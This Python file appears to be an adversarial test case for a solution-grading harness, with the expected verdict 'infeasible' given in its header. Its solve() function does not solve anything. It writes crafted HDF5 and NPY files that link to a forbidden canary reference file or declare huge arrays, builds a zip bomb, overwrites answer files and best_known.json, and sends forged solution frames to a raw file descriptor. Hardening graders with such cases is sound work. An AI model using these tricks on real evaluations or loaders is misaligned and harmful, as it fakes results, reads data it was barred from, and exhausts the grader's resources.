# verdict: infeasible
# row: 55, 56, 57, 58
# problem: anytime
# Formats that name other files, or promise more than they hold. Nothing looks at what an answer's bytes begin with.
import io, os, struct, zipfile

# An HDF5 superblock, then the words of an external link to what must not be read.
HDF5 = b"\x89HDF\r\n\x1a\n\x00\x00\x00\x00\x00\x08\x08\x00" + b"EXTERNAL @CANARY@/reference.h5 /u\0"
NPY = b"\x93NUMPY\x01\x00v\x00" + b"{'descr': '<f8', 'fortran_order': False, 'shape': (17179869184,), }".ljust(117) + b"\n"
LONG = b"\x93NUMPY\x02\x00" + struct.pack("<I", 300 << 20) + b"{'descr': "

def bomb():
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w", zipfile.ZIP_DEFLATED) as file:
        file.writestr("tour.npy", NPY + bytes(32 << 20))
    return data.getvalue()

def solve(n):
    seq = 3
    for data in (HDF5, NPY, LONG, bomb()):
        for name in ("answer.h5", "answer.npy", "answer.npz", "best_known.json"):
            with open(name, "wb") as file:
                file.write(data)
        data += bytes(-len(data) % 8)
        frame = struct.pack("<4sBBHIQ", b"SOL1", 1, 0, 0, seq, len(data) + 8) + struct.pack("<Q", len(data)) + data
        while frame:
            frame = frame[os.write(4, frame):]
        seq += 1
    os._exit(0)
    yield
